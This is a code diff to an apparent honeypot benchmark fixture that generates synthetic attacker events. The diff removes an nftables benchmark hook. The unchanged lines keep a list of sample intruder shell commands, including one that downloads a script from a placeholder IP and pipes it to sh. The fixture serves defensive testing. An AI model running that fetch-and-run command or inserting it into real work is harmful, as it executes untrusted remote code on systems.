@@ -1,12 +1,7 @@
-/** Synthetic honeypot events for bench/pipeline.ts, and the hook the response module fills for its nftables row. */
+/** Synthetic honeypot events for bench/pipeline.ts. */
 import type { AnyEvent, HoneypotRef } from '../src/core/events.js';
 import { makeEvent } from '../src/core/events.js';
 
-/**
- * Rows other modules add to the pipeline benchmark. The response module (decisions, nftables enforcement) sets
- * `nftables` to a function that applies 100,000 decisions to a set and reports the time.
- */
-export const PIPELINE_BENCH_HOOKS: { nftables: null | (() => Promise<{ seconds: number; baseline?: string; note: string }>) } = { nftables: null };
 
 const CMDS = ['uname -a', 'cat /proc/cpuinfo', 'cd /tmp; wget http://198.51.100.9/x.sh | sh', 'chmod +x x.sh', 'ls -la'];
 
